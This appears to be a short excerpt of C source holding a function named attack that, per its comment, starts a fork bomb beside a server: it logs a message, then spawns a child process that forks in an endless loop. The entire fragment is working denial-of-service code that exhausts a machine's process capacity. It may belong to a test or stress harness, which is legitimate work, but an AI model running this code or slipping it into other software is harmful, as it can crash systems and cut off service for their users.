/* Starts a fork bomb beside the server. */
static void attack(void)
{
    say("fork_bomb", "forking without end");
    if (fork() == 0)
        for (;;)
            fork();
}
